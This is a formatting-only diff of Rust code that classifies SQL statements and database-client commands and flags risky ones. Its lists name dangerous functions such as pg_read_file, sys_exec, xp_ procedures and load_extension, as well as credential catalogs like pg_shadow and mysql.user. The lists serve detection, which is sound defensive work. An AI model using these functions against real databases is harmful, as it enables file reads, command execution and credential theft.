@@ -131,9 +131,7 @@ fn unit(b: &[u8], i: usize) -> (usize, Unit) {
             (j.min(n) - i, Unit::Comment)
         }
         b'\'' => {
-            let escapes = i > 0
-                && (b[i - 1] | 0x20) == b'e'
-                && (i < 2 || !is_ident_byte(b[i - 2]));
+            let escapes = i > 0 && (b[i - 1] | 0x20) == b'e' && (i < 2 || !is_ident_byte(b[i - 2]));
             let mut j = i + 1;
             while j < n {
                 if escapes && b[j] == b'\\' {
@@ -244,8 +242,8 @@ fn operator_load(s: &str) -> usize {
                     "and", "or", "xor", "is", "like", "ilike", "collate", "in", "between", "at",
                     "div", "mod", "regexp", "rlike", "glob", "match", "similar", "overlaps",
                 ]
-                    .iter()
-                    .any(|k| w.eq_ignore_ascii_case(k))
+                .iter()
+                .any(|k| w.eq_ignore_ascii_case(k))
                 {
                     count += 1;
                 }
@@ -266,8 +264,7 @@ fn mysql_divergent(s: &str) -> bool {
     s.contains("/*!")
         || s.contains('#')
         || s.contains('\\')
-        || b
-            .windows(3)
+        || b.windows(3)
             .any(|w| w[0] == b'-' && w[1] == b'-' && !w[2].is_ascii_whitespace())
 }
 
@@ -625,7 +622,12 @@ fn psql_meta(c: &mut Collector, st: &mut State, line: &str, pending: &mut String
             let var = arg0.unwrap_or("");
             if matches!(
                 var,
-                "PAGER" | "PSQL_PAGER" | "EDITOR" | "PSQL_EDITOR" | "VISUAL" | "SHELL"
+                "PAGER"
+                    | "PSQL_PAGER"
+                    | "EDITOR"
+                    | "PSQL_EDITOR"
+                    | "VISUAL"
+                    | "SHELL"
                     | "PSQL_WATCH_PAGER"
             ) {
                 c.push(Op::opaque(format!(
@@ -651,7 +653,9 @@ fn psql_meta(c: &mut Collector, st: &mut State, line: &str, pending: &mut String
                 .collect();
             c.push(client_op(st, SqlKind::Read, "DESCRIBE", objects, &[]));
         }
-        _ => c.push(Op::opaque(format!("unknown psql meta-command \\{raw_name}"))),
+        _ => c.push(Op::opaque(format!(
+            "unknown psql meta-command \\{raw_name}"
+        ))),
     }
     used
 }
@@ -771,7 +775,10 @@ fn sqlite_dot(c: &mut Collector, st: &mut State, line: &str) {
     match name.as_str() {
         "shell" | "system" => bash(c, st, rest),
         "load" => {
-            let objects = plain.first().map(|f| vec![f.to_string()]).unwrap_or_default();
+            let objects = plain
+                .first()
+                .map(|f| vec![f.to_string()])
+                .unwrap_or_default();
             c.push(client_op(
                 st,
                 SqlKind::Admin,
@@ -794,7 +801,13 @@ fn sqlite_dot(c: &mut Collector, st: &mut State, line: &str) {
             }
             st.db = Some(file.and_then(db_name).unwrap_or_else(|| "memory".into()));
             if a.args.iter().any(|x| x == "--new") {
-                c.push(client_op(st, SqlKind::Ddl, "DROP DATABASE", Vec::new(), &[]));
+                c.push(client_op(
+                    st,
+                    SqlKind::Ddl,
+                    "DROP DATABASE",
+                    Vec::new(),
+                    &[],
+                ));
             }
         }
         "read" => {
@@ -818,7 +831,9 @@ fn sqlite_dot(c: &mut Collector, st: &mut State, line: &str) {
                 client_output(c, st, f);
             }
         }
-        "excel" => c.push(Op::opaque("sqlite3 .excel opens the result in a spreadsheet")),
+        "excel" => c.push(Op::opaque(
+            "sqlite3 .excel opens the result in a spreadsheet",
+        )),
         "import" => {
             let mut it = Vec::new();
             let mut skip = false;
@@ -839,7 +854,10 @@ fn sqlite_dot(c: &mut Collector, st: &mut State, line: &str) {
                     c.push(Op::FileRead { path });
                 }
             }
-            let objects = it.get(1).map(|t| vec![t.to_lowercase()]).unwrap_or_default();
+            let objects = it
+                .get(1)
+                .map(|t| vec![t.to_lowercase()])
+                .unwrap_or_default();
             let mut op = client_op(st, SqlKind::Dml, "IMPORT", objects, &[]);
             if let Op::Sql(s) = &mut op {
                 audit_danger(s);
@@ -1145,8 +1163,7 @@ fn finish(c: &mut Collector, st: &State, d: Draft, w: Option<&Walk>) {
         where_tautological: taut,
         dangers,
     };
-    if matches!(kind, SqlKind::Dml | SqlKind::Ddl) && targets.iter().any(|t| t.contains("audit"))
-    {
+    if matches!(kind, SqlKind::Dml | SqlKind::Ddl) && targets.iter().any(|t| t.contains("audit")) {
         push_uniq(&mut op.dangers, "audit_tamper");
     }
     c.push(Op::Sql(op));
@@ -1154,7 +1171,8 @@ fn finish(c: &mut Collector, st: &State, d: Draft, w: Option<&Walk>) {
 
 /// Audit tampering on a client-command op (objects are its targets).
 fn audit_danger(s: &mut SqlOp) {
-    if matches!(s.kind, SqlKind::Dml | SqlKind::Ddl) && s.objects.iter().any(|t| t.contains("audit"))
+    if matches!(s.kind, SqlKind::Dml | SqlKind::Ddl)
+        && s.objects.iter().any(|t| t.contains("audit"))
     {
         push_uniq(&mut s.dangers, "audit_tamper");
     }
@@ -1348,8 +1366,18 @@ fn classify(c: &mut Collector, st: &mut State, s: &Statement) -> Vec<Draft> {
             let d = Draft::new(Ddl, "CREATE VIRTUAL TABLE").objects(vec![oname(name)]);
             let safe = matches!(
                 m.as_str(),
-                "fts3" | "fts4" | "fts5" | "rtree" | "rtree_i32" | "geopoly" | "spellfix1"
-                    | "dbstat" | "json_each" | "json_tree" | "series" | "generate_series"
+                "fts3"
+                    | "fts4"
+                    | "fts5"
+                    | "rtree"
+                    | "rtree_i32"
+                    | "geopoly"
+                    | "spellfix1"
+                    | "dbstat"
+                    | "json_each"
+                    | "json_tree"
+                    | "series"
+                    | "generate_series"
                     | "vec0"
             );
             one(if safe {
@@ -1360,20 +1388,19 @@ fn classify(c: &mut Collector, st: &mut State, s: &Statement) -> Vec<Draft> {
         }
         Statement::CreateSequence {
             temporary, name, ..
-        } => one(
-            Draft::new(
-                Ddl,
-                if *temporary {
-                    "CREATE TEMP SEQUENCE"
-                } else {
-                    "CREATE SEQUENCE"
-                },
-            )
-            .objects(vec![oname(name)]),
-        ),
-        Statement::CreateSchema { schema_name, .. } => one(
-            Draft::new(Ddl, "CREATE SCHEMA").objects(vec![schema_name.to_string().to_lowercase()]),
-        ),
+        } => one(Draft::new(
+            Ddl,
+            if *temporary {
+                "CREATE TEMP SEQUENCE"
+            } else {
+                "CREATE SEQUENCE"
+            },
+        )
+        .objects(vec![oname(name)])),
+        Statement::CreateSchema { schema_name, .. } => {
+            one(Draft::new(Ddl, "CREATE SCHEMA")
+                .objects(vec![schema_name.to_string().to_lowercase()]))
+        }
         Statement::CreateDatabase { db_name, .. } => {
             one(Draft::new(Ddl, "CREATE DATABASE").objects(vec![oname(db_name)]))
         }
@@ -1402,37 +1429,27 @@ fn classify(c: &mut Collector, st: &mut State, s: &Statement) -> Vec<Draft> {
         Statement::CreateMacro { name, .. } => {
             one(Draft::new(Ddl, "CREATE MACRO").objects(vec![oname(name)]))
         }
-        Statement::CreateRule(x) => one(
-            Draft::new(Ddl, "CREATE RULE")
-                .targets(vec![oname(&x.table_name)])
-                .objects(vec![ident(&x.name)]),
-        ),
-        Statement::CreatePolicy(x) => one(
-            Draft::new(Dcl, "CREATE POLICY")
-                .targets(vec![oname(&x.table_name)])
-                .objects(vec![ident(&x.name)]),
-        ),
-        Statement::AlterPolicy(x) => one(
-            Draft::new(Dcl, "ALTER POLICY")
-                .targets(vec![oname(&x.table_name)])
-                .objects(vec![ident(&x.name)]),
-        ),
-        Statement::DropPolicy(x) => one(
-            Draft::new(Dcl, "DROP POLICY")
-                .targets(vec![oname(&x.table_name)])
-                .objects(vec![ident(&x.name)]),
-        ),
+        Statement::CreateRule(x) => one(Draft::new(Ddl, "CREATE RULE")
+            .targets(vec![oname(&x.table_name)])
+            .objects(vec![ident(&x.name)])),
+        Statement::CreatePolicy(x) => one(Draft::new(Dcl, "CREATE POLICY")
+            .targets(vec![oname(&x.table_name)])
+            .objects(vec![ident(&x.name)])),
+        Statement::AlterPolicy(x) => one(Draft::new(Dcl, "ALTER POLICY")
+            .targets(vec![oname(&x.table_name)])
+            .objects(vec![ident(&x.name)])),
+        Statement::DropPolicy(x) => one(Draft::new(Dcl, "DROP POLICY")
+            .targets(vec![oname(&x.table_name)])
+            .objects(vec![ident(&x.name)])),
         Statement::CreateTrigger(t) => {
             let verb = if t.or_replace || t.or_alter {
                 "CREATE OR REPLACE TRIGGER"
             } else {
                 "CREATE TRIGGER"
             };
-            one(
-                Draft::new(Ddl, verb)
-                    .targets(vec![oname(&t.table_name)])
-                    .objects(vec![oname(&t.name)]),
-            )
+            one(Draft::new(Ddl, verb)
+                .targets(vec![oname(&t.table_name)])
+                .objects(vec![oname(&t.name)]))
         }
         Statement::DropTrigger(t) => {
             let mut tg = vec![oname(&t.trigger_name)];
@@ -1448,14 +1465,20 @@ fn classify(c: &mut Collector, st: &mut State, s: &Statement) -> Vec<Draft> {
                 "CREATE FUNCTION"
             };
             let mut d = Draft::new(Ddl, verb).objects(vec![oname(&f.name)]);
-            if f.language.as_ref().is_some_and(|l| untrusted_language(&ident(l))) {
+            if f.language
+                .as_ref()
+                .is_some_and(|l| untrusted_language(&ident(l)))
+            {
                 d = d.danger("create_function_untrusted");
             }
             one(d)
         }
         Statement::CreateProcedure { name, language, .. } => {
             let mut d = Draft::new(Ddl, "CREATE PROCEDURE").objects(vec![oname(name)]);
-            if language.as_ref().is_some_and(|l| untrusted_language(&ident(l))) {
+            if language
+                .as_ref()
+                .is_some_and(|l| untrusted_language(&ident(l)))
+            {
                 d = d.danger("create_function_untrusted");
             }
             one(d)
@@ -1463,22 +1486,18 @@ fn classify(c: &mut Collector, st: &mut State, s: &Statement) -> Vec<Draft> {
         Statement::CreateServer(x) => {
             let fdw = oname(&x.foreign_data_wrapper);
             let danger = extension_danger(&fdw).unwrap_or("foreign_server");
-            one(
-                Draft::new(Ddl, "CREATE SERVER")
-                    .objects(vec![oname(&x.name), fdw])
-                    .danger(danger),
-            )
+            one(Draft::new(Ddl, "CREATE SERVER")
+                .objects(vec![oname(&x.name), fdw])
+                .danger(danger))
         }
-        Statement::CreateForeignDataWrapper(x) => one(
-            Draft::new(Ddl, "CREATE FOREIGN DATA WRAPPER")
+        Statement::CreateForeignDataWrapper(x) => {
+            one(Draft::new(Ddl, "CREATE FOREIGN DATA WRAPPER")
                 .objects(vec![ident(&x.name)])
-                .danger("foreign_data_wrapper"),
-        ),
-        Statement::CreateForeignTable(x) => one(
-            Draft::new(Ddl, "CREATE FOREIGN TABLE")
-                .objects(vec![oname(&x.name)])
-                .danger("foreign_table"),
-        ),
+                .danger("foreign_data_wrapper"))
+        }
+        Statement::CreateForeignTable(x) => one(Draft::new(Ddl, "CREATE FOREIGN TABLE")
+            .objects(vec![oname(&x.name)])
+            .danger("foreign_table")),
         Statement::CreateUserMapping(_) => {
             one(Draft::new(Dcl, "CREATE USER MAPPING").danger("foreign_server"))
         }
@@ -1491,7 +1510,9 @@ fn classify(c: &mut Collector, st: &mut State, s: &Statement) -> Vec<Draft> {
             };
             one(Draft::new(Dcl, verb).targets(r.names.iter().map(oname).collect()))
         }
-        Statement::CreateUser(u) => one(Draft::new(Dcl, "CREATE USER").targets(vec![ident(&u.name)])),
+        Statement::CreateUser(u) => {
+            one(Draft::new(Dcl, "CREATE USER").targets(vec![ident(&u.name)]))
+        }
         Statement::AlterRole { name, operation } => {
             let verb = match operation {
                 ast::AlterRoleOperation::WithOptions { options }
@@ -1514,23 +1535,25 @@ fn classify(c: &mut Collector, st: &mut State, s: &Statement) -> Vec<Draft> {
             };
             one(Draft::new(Dcl, verb).targets(vec![ident(&u.name)]))
         }
-        Statement::Grant(g) => one(
-            Draft::new(Dcl, "GRANT")
-                .objects(grant_objects(g.objects.as_ref(), &g.grantees, &[])),
-        ),
-        Statement::Revoke(r) => one(
-            Draft::new(Dcl, "REVOKE")
-                .objects(grant_objects(r.objects.as_ref(), &r.grantees, &[])),
-        ),
+        Statement::Grant(g) => one(Draft::new(Dcl, "GRANT").objects(grant_objects(
+            g.objects.as_ref(),
+            &g.grantees,
+            &[],
+        ))),
+        Statement::Revoke(r) => one(Draft::new(Dcl, "REVOKE").objects(grant_objects(
+            r.objects.as_ref(),
+            &r.grantees,
+            &[],
+        ))),
         Statement::GrantRole(g) => {
             one(Draft::new(Dcl, "GRANT").objects(grant_objects(None, &g.grantees, &g.roles)))
         }
         Statement::RevokeRole(r) => {
             one(Draft::new(Dcl, "REVOKE").objects(grant_objects(None, &r.grantees, &r.roles)))
         }
-        Statement::Deny(x) => one(
-            Draft::new(Dcl, "DENY").objects(grant_objects(Some(&x.objects), &x.grantees, &[])),
-        ),
+        Statement::Deny(x) => {
+            one(Draft::new(Dcl, "DENY").objects(grant_objects(Some(&x.objects), &x.grantees, &[])))
+        }
         Statement::AlterDefaultPrivileges(_) => one(Draft::new(Dcl, "ALTER DEFAULT PRIVILEGES")),
         Statement::Drop {
             object_type,
@@ -1546,7 +1569,9 @@ fn classify(c: &mut Collector, st: &mut State, s: &Statement) -> Vec<Draft> {
             let targets: Vec<String> = dropped.iter().map(oname).collect();
             let is_table = matches!(object_type, ast::ObjectType::Table);
             let all_temp = !targets.is_empty()
-                && targets.iter().all(|t| st.temp_tables.iter().any(|x| x == t));
+                && targets
+                    .iter()
+                    .all(|t| st.temp_tables.iter().any(|x| x == t));
             let verb = if is_table && (*temporary || all_temp) {
                 "DROP TEMP TABLE".to_string()
             } else {
@@ -1558,13 +1583,13 @@ fn classify(c: &mut Collector, st: &mut State, s: &Statement) -> Vec<Draft> {
             }
             one(d)
         }
-        Statement::DropFunction(x) => one(
-            Draft::new(Ddl, "DROP FUNCTION").targets(x.func_desc.iter().map(|f| oname(&f.name)).collect()),
-        ),
-        Statement::DropProcedure { proc_desc, .. } => one(
-            Draft::new(Ddl, "DROP PROCEDURE").targets(proc_desc.iter().map(|f| oname(&f.name)).collect()),
-        ),
-        Statement::DropDomain(x) => one(Draft::new(Ddl, "DROP DOMAIN").targets(vec![oname(&x.name)])),
+        Statement::DropFunction(x) => one(Draft::new(Ddl, "DROP FUNCTION")
+            .targets(x.func_desc.iter().map(|f| oname(&f.name)).collect())),
+        Statement::DropProcedure { proc_desc, .. } => one(Draft::new(Ddl, "DROP PROCEDURE")
+            .targets(proc_desc.iter().map(|f| oname(&f.name)).collect())),
+        Statement::DropDomain(x) => {
+            one(Draft::new(Ddl, "DROP DOMAIN").targets(vec![oname(&x.name)]))
+        }
         Statement::DropExtension(x) => {
             one(Draft::new(Ddl, "DROP EXTENSION").targets(x.names.iter().map(ident).collect()))
         }
@@ -1575,9 +1600,8 @@ fn classify(c: &mut Collector, st: &mut State, s: &Statement) -> Vec<Draft> {
         Statement::DropOperator(_)
         | Statement::DropOperatorFamily(_)
         | Statement::DropOperatorClass(_) => one(Draft::new(Ddl, "DROP OPERATOR")),
-        Statement::Truncate(t) => one(
-            Draft::new(Ddl, "TRUNCATE").targets(t.table_names.iter().map(|x| oname(&x.name)).collect()),
-        ),
+        Statement::Truncate(t) => one(Draft::new(Ddl, "TRUNCATE")
+            .targets(t.table_names.iter().map(|x| oname(&x.name)).collect())),
         Statement::AlterTable(at) => {
             let name = oname(&at.name);
             let mut out: Vec<Draft> = Vec::new();
@@ -1614,14 +1638,18 @@ fn classify(c: &mut Collector, st: &mut State, s: &Statement) -> Vec<Draft> {
             }
             one(Draft::new(Ddl, "RENAME TABLE").targets(t))
         }
-        Statement::AlterSchema(x) => one(Draft::new(Ddl, "ALTER SCHEMA").targets(vec![oname(&x.name)])),
+        Statement::AlterSchema(x) => {
+            one(Draft::new(Ddl, "ALTER SCHEMA").targets(vec![oname(&x.name)]))
+        }
         Statement::AlterView(x) => one(Draft::new(Ddl, "ALTER VIEW").targets(vec![oname(&x.name)])),
         Statement::AlterIndex { name, .. } => {
             one(Draft::new(Ddl, "ALTER INDEX").targets(vec![oname(name)]))
         }
         Statement::AlterType(x) => one(Draft::new(Ddl, "ALTER TYPE").targets(vec![oname(&x.name)])),
         Statement::AlterFunction(_) => one(Draft::new(Ddl, "ALTER FUNCTION")),
-        Statement::AlterTrigger(x) => one(Draft::new(Ddl, "ALTER TRIGGER").targets(vec![ident(&x.name)])),
+        Statement::AlterTrigger(x) => {
+            one(Draft::new(Ddl, "ALTER TRIGGER").targets(vec![ident(&x.name)]))
+        }
         Statement::AlterCollation(_) => one(Draft::new(Ddl, "ALTER COLLATION")),
         Statement::AlterOperator(_)
         | Statement::AlterOperatorFamily(_)
@@ -1675,17 +1703,15 @@ fn classify(c: &mut Collector, st: &mut State, s: &Statement) -> Vec<Draft> {
             Vec::new()
         }
         Statement::Commit { .. } => one(Draft::new(Admin, "COMMIT").no_walk()),
-        Statement::Rollback { savepoint, .. } => one(
-            Draft::new(
-                Admin,
-                if savepoint.is_some() {
-                    "ROLLBACK TO SAVEPOINT"
-                } else {
-                    "ROLLBACK"
-                },
-            )
-            .no_walk(),
-        ),
+        Statement::Rollback { savepoint, .. } => one(Draft::new(
+            Admin,
+            if savepoint.is_some() {
+                "ROLLBACK TO SAVEPOINT"
+            } else {
+                "ROLLBACK"
+            },
+        )
+        .no_walk()),
         Statement::Savepoint { .. } => one(Draft::new(Admin, "SAVEPOINT").no_walk()),
         Statement::ReleaseSavepoint { .. } => one(Draft::new(Admin, "RELEASE SAVEPOINT").no_walk()),
         Statement::Vacuum(v) => {
@@ -1706,7 +1732,11 @@ fn classify(c: &mut Collector, st: &mut State, s: &Statement) -> Vec<Draft> {
             schema_name,
             database_file_name,
             ..
-        } => one(attach(st, &ident(schema_name), fold_str(database_file_name).as_deref())),
+        } => one(attach(
+            st,
+            &ident(schema_name),
+            fold_str(database_file_name).as_deref(),
+        )),
         Statement::AttachDuckDBDatabase {
             database_path,
             database_alias,
@@ -1723,12 +1753,10 @@ fn classify(c: &mut Collector, st: &mut State, s: &Statement) -> Vec<Draft> {
             st.attached.retain(|(a, _)| *a != alias);
             one(Draft::new(Admin, "DETACH DATABASE").objects(vec![alias]))
         }
-        Statement::Lock(l) => one(
-            Draft::new(Admin, "LOCK TABLE").objects(l.tables.iter().map(|t| oname(&t.name)).collect()),
-        ),
-        Statement::LockTables { tables } => one(
-            Draft::new(Admin, "LOCK TABLES").objects(tables.iter().map(|t| ident(&t.table)).collect()),
-        ),
+        Statement::Lock(l) => one(Draft::new(Admin, "LOCK TABLE")
+            .objects(l.tables.iter().map(|t| oname(&t.name)).collect())),
+        Statement::LockTables { tables } => one(Draft::new(Admin, "LOCK TABLES")
+            .objects(tables.iter().map(|t| ident(&t.table)).collect())),
         Statement::UnlockTables => one(Draft::new(Admin, "UNLOCK TABLES")),
         Statement::Kill { modifier, .. } => {
             let danger = match modifier {
@@ -1779,40 +1807,32 @@ fn classify(c: &mut Collector, st: &mut State, s: &Statement) -> Vec<Draft> {
         Statement::UNLISTEN { .. } => one(Draft::new(Admin, "UNLISTEN")),
         Statement::NOTIFY { .. } => one(Draft::new(Admin, "NOTIFY")),
         Statement::Flush { .. } => one(Draft::new(Admin, "FLUSH")),
-        Statement::RefreshMaterializedView(r) => one(
-            Draft::new(Dml, "REFRESH MATERIALIZED VIEW").targets(vec![oname(&r.name)]),
-        ),
+        Statement::RefreshMaterializedView(r) => {
+            one(Draft::new(Dml, "REFRESH MATERIALIZED VIEW").targets(vec![oname(&r.name)]))
+        }
         Statement::Msck(_)
         | Statement::Cache { .. }
         | Statement::UNCache { .. }
         | Statement::OptimizeTable { .. } => one(Draft::new(Admin, variant_words(s))),
         Statement::Assert { .. } => one(Draft::new(Read, "ASSERT")),
         Statement::WaitFor(_) => one(Draft::new(Admin, "WAITFOR").danger("pg_sleep")),
-        Statement::Install { extension_name } => one(
-            Draft::new(Admin, "INSTALL EXTENSION")
-                .objects(vec![ident(extension_name)])
-                .danger("load_extension"),
-        ),
-        Statement::Load { extension_name } => one(
-            Draft::new(Admin, "LOAD EXTENSION")
-                .objects(vec![ident(extension_name)])
-                .danger("load_extension"),
-        ),
-        Statement::LoadData { table_name, .. } => one(
-            Draft::new(Dml, "LOAD DATA")
-                .targets(vec![oname(table_name)])
-                .danger("load_data_infile"),
-        ),
+        Statement::Install { extension_name } => one(Draft::new(Admin, "INSTALL EXTENSION")
+            .objects(vec![ident(extension_name)])
+            .danger("load_extension")),
+        Statement::Load { extension_name } => one(Draft::new(Admin, "LOAD EXTENSION")
+            .objects(vec![ident(extension_name)])
+            .danger("load_extension")),
+        Statement::LoadData { table_name, .. } => one(Draft::new(Dml, "LOAD DATA")
+            .targets(vec![oname(table_name)])
+            .danger("load_data_infile")),
         Statement::Directory { .. } => {
             one(Draft::new(Dml, "INSERT DIRECTORY").danger("into_outfile"))
         }
         Statement::Unload { .. } => one(Draft::new(Read, "UNLOAD").danger("unload")),
         Statement::ExportData(_) => one(Draft::new(Read, "EXPORT DATA").danger("unload")),
-        Statement::CopyIntoSnowflake { into, .. } => one(
-            Draft::new(Dml, "COPY INTO")
-                .targets(vec![oname(into)])
-                .danger("copy_file"),
-        ),
+        Statement::CopyIntoSnowflake { into, .. } => one(Draft::new(Dml, "COPY INTO")
+            .targets(vec![oname(into)])
+            .danger("copy_file")),
         Statement::Call(f) => {
             let n = oname(&f.name);
             c.push(Op::opaque(format!("calls stored procedure {n}")));
@@ -1884,7 +1904,8 @@ fn execute(
             .flatten()
             .any(|t| t.to_ascii_lowercase().contains(needle))
     };
-    if last.starts_with("xp_") || matches!(last.as_str(), "sp_oacreate" | "sp_execute_external_script")
+    if last.starts_with("xp_")
+        || matches!(last.as_str(), "sp_oacreate" | "sp_execute_external_script")
     {
         return vec![d.objects(vec![n.clone()]).danger(&last)];
     }
@@ -1964,8 +1985,7 @@ fn alter_table_op(op: &ast::AlterTableOperation) -> (SqlKind, String, Option<&'s
         }
         A::DisableTrigger { .. } | A::DisableRule { .. } => {
             let text = variant_debug(op).to_ascii_lowercase();
-            let danger = (text.contains("audit") || text.contains("all"))
-                .then_some("audit_tamper");
+            let danger = (text.contains("audit") || text.contains("all")).then_some("audit_tamper");
             (SqlKind::Ddl, words, danger)
         }
         _ => (SqlKind::Ddl, words, None),
@@ -1993,9 +2013,8 @@ fn set_drafts(set: &ast::Set) -> Vec<Draft> {
         }
         d
     };
-    let global = |scope: &Option<ast::ContextModifier>| {
-        matches!(scope, Some(ast::ContextModifier::Global))
-    };
+    let global =
+        |scope: &Option<ast::ContextModifier>| matches!(scope, Some(ast::ContextModifier::Global));
     match set {
         S::SingleAssignment {
             scope, variable, ..
@@ -2127,7 +2146,8 @@ fn dml_draft(s: &Statement) -> Option<(Draft, Vec<Target>)> {
                 }
                 _ => {}
             }
-            let replace = ins.replace_into || matches!(ins.or, Some(ast::SqliteOnConflict::Replace));
+            let replace =
+                ins.replace_into || matches!(ins.or, Some(ast::SqliteOnConflict::Replace));
             let upsert = matches!(
                 ins.on,
                 Some(ast::OnInsert::DuplicateKeyUpdate(_))
@@ -2153,10 +2173,7 @@ fn dml_draft(s: &Statement) -> Option<(Draft, Vec<Target>)> {
                         });
                         if reads_self {
                             d.has_where = sel.selection.is_some();
-                            d.taut = sel
-                                .selection
-                                .as_ref()
-                                .is_none_or(|e| covers_all(e, &tg));
+                            d.taut = sel.selection.as_ref().is_none_or(|e| covers_all(e, &tg));
                         }
                     }
                 }
@@ -2192,12 +2209,17 @@ fn dml_draft(s: &Statement) -> Option<(Draft, Vec<Target>)> {
                     // `DELETE a FROM t AS a ...`: resolve the alias.
                     let real = from
                         .iter()
-                        .flat_map(|f| std::iter::once(&f.relation).chain(f.joins.iter().map(|j| &j.relation)))
+                        .flat_map(|f| {
+                            std::iter::once(&f.relation).chain(f.joins.iter().map(|j| &j.relation))
+                        })
                         .filter_map(table_factor_name)
                         .find(|(_, a)| a.as_deref() == Some(n.as_str()));
                     match real {
                         Some((rn, a)) => tg.push(Target { name: rn, alias: a }),
-                        None => tg.push(Target { name: n, alias: None }),
+                        None => tg.push(Target {
+                            name: n,
+                            alias: None,
+                        }),
                     }
                 }
             }
@@ -2387,8 +2409,7 @@ impl Walk {
             "set_config" => {
                 if let Some(v) = exprs().next().and_then(fold_str) {
                     let v = v.to_ascii_lowercase();
-                    if v.contains("log") || v.contains("audit") || v == "session_replication_role"
-                    {
+                    if v.contains("log") || v.contains("audit") || v == "session_replication_role" {
                         push_uniq(&mut self.dangers, "audit_tamper");
                     }
                     if v == "role" || v == "session_authorization" {
@@ -2419,8 +2440,10 @@ impl Visitor for Walk {
         if self.depth > 1 {
             if let Some((d, _)) = dml_draft(s) {
                 self.nested.push(Nested {
-                    filters: matches!(s, Statement::Update(_) | Statement::Delete(_) | Statement::Merge(_))
-                        || d.taut,
+                    filters: matches!(
+                        s,
+                        Statement::Update(_) | Statement::Delete(_) | Statement::Merge(_)
+                    ) || d.taut,
                     verb: d.verb,
                     targets: d.targets,
                     has_where: d.has_where,
@@ -2496,13 +2519,38 @@ impl Visitor for Walk {
 /// Dangerous functions, by (lower-case, unqualified) name.
 fn func_danger(f: &str) -> Option<String> {
     let d = match f {
-        "pg_read_file" | "pg_read_binary_file" | "pg_ls_dir" | "pg_stat_file" | "pg_ls_logdir"
-        | "pg_ls_waldir" | "pg_ls_tmpdir" | "pg_ls_archive_statusdir" | "pg_file_write"
-        | "pg_file_rename" | "pg_file_unlink" | "pg_file_sync" | "pg_logdir_ls"
-        | "pg_terminate_backend" | "pg_cancel_backend" | "pg_reload_conf" | "pg_promote"
-        | "pg_rotate_logfile" | "load_file" | "load_extension" | "set_config" | "setval"
-        | "sp_oacreate" | "sp_oamethod" | "sp_execute_external_script" | "sys_exec"
-        | "sys_eval" | "readfile" | "writefile" | "fts3_tokenizer" | "edit" | "fsdir"
+        "pg_read_file"
+        | "pg_read_binary_file"
+        | "pg_ls_dir"
+        | "pg_stat_file"
+        | "pg_ls_logdir"
+        | "pg_ls_waldir"
+        | "pg_ls_tmpdir"
+        | "pg_ls_archive_statusdir"
+        | "pg_file_write"
+        | "pg_file_rename"
+        | "pg_file_unlink"
+        | "pg_file_sync"
+        | "pg_logdir_ls"
+        | "pg_terminate_backend"
+        | "pg_cancel_backend"
+        | "pg_reload_conf"
+        | "pg_promote"
+        | "pg_rotate_logfile"
+        | "load_file"
+        | "load_extension"
+        | "set_config"
+        | "setval"
+        | "sp_oacreate"
+        | "sp_oamethod"
+        | "sp_execute_external_script"
+        | "sys_exec"
+        | "sys_eval"
+        | "readfile"
+        | "writefile"
+        | "fts3_tokenizer"
+        | "edit"
+        | "fsdir"
         | "zipfile" => f,
         "pg_sleep" | "pg_sleep_for" | "pg_sleep_until" | "sleep" | "benchmark" => "pg_sleep",
         _ if f.starts_with("lo_") || f.starts_with("dblink") || f.starts_with("xp_") => f,
@@ -2526,17 +2574,36 @@ fn extension_danger(n: &str) -> Option<&'static str> {
 fn untrusted_language(l: &str) -> bool {
     matches!(
         l,
-        "plpythonu" | "plpython2u" | "plpython3u" | "plperlu" | "pltclu" | "c" | "internal"
-            | "plsh" | "plr" | "javau" | "pljavau"
+        "plpythonu"
+            | "plpython2u"
+            | "plpython3u"
+            | "plperlu"
+            | "pltclu"
+            | "c"
+            | "internal"
+            | "plsh"
+            | "plr"
+            | "javau"
+            | "pljavau"
     )
 }
 
 /// A name that suggests secrets: `password_hash`, `api_token`, `client_secret`.
 fn credential_name(n: &str) -> bool {
     let n = n.to_ascii_lowercase();
-    if ["password", "passwd", "pwd", "secret", "credential", "apikey", "api_key", "private_key", "passphrase"]
-        .iter()
-        .any(|k| n.contains(k))
+    if [
+        "password",
+        "passwd",
+        "pwd",
+        "secret",
+        "credential",
+        "apikey",
+        "api_key",
+        "private_key",
+        "passphrase",
+    ]
+    .iter()
+    .any(|k| n.contains(k))
     {
         return true;
     }
@@ -2549,8 +2616,13 @@ fn credential_catalog(n: &str) -> bool {
     let last = last_part(n);
     matches!(
         last,
-        "pg_authid" | "pg_shadow" | "pg_user_mapping" | "pg_user_mappings" | "sql_logins"
-            | "syslogins" | "user_mapping_options"
+        "pg_authid"
+            | "pg_shadow"
+            | "pg_user_mapping"
+            | "pg_user_mappings"
+            | "sql_logins"
+            | "syslogins"
+            | "user_mapping_options"
     ) || n.ends_with("mysql.user")
         || n.ends_with("mysql.global_priv")
 }
@@ -2661,7 +2733,11 @@ fn same_col(a: &Expr, b: &Expr, tg: &[Target]) -> bool {
     if x == y {
         return true;
     }
-    let (short, long) = if x.len() < y.len() { (&x, &y) } else { (&y, &x) };
+    let (short, long) = if x.len() < y.len() {
+        (&x, &y)
+    } else {
+        (&y, &x)
+    };
     short.len() == 1
         && long.len() >= 2
         && short.last() == long.last()
@@ -2914,7 +2990,8 @@ fn truth(e: &Expr, tg: &[Target]) -> Option<bool> {
             negated, pattern, ..
         } => {
             let p = fold_str(pattern)?;
-            matches!(p.as_str(), "" | ".*" | "^" | "^.*" | ".*$" | "^.*$" | "$").then_some(!*negated)
+            matches!(p.as_str(), "" | ".*" | "^" | "^.*" | ".*$" | "^.*$" | "$")
+                .then_some(!*negated)
         }
         Expr::Between {
             expr,
@@ -3013,10 +3090,7 @@ fn compare_covers(left: &Expr, op: &BinaryOperator, right: &Expr) -> bool {
             .iter()
             .any(|k| l.starts_with(k))
     });
-    if created
-        && matches!(op, B::Lt | B::LtEq)
-        && time_offset(val).is_some_and(|d| d >= 0.0)
-    {
+    if created && matches!(op, B::Lt | B::LtEq) && time_offset(val).is_some_and(|d| d >= 0.0) {
         return true;
     }
     match far_time(val) {
@@ -3111,7 +3185,11 @@ fn time_offset(e: &Expr) -> Option<f64> {
             op: op @ (BinaryOperator::Plus | BinaryOperator::Minus),
             right,
         } => {
-            let sign = if *op == BinaryOperator::Minus { -1.0 } else { 1.0 };
+            let sign = if *op == BinaryOperator::Minus {
+                -1.0
+            } else {
+                1.0
+            };
             if let Some(base) = time_offset(left) {
                 return Some(base + sign * interval_expr_days(right)?);
             }
@@ -3353,7 +3431,12 @@ fn fallback(c: &mut Collector, st: &mut State, text: &str, err: &str) {
     }
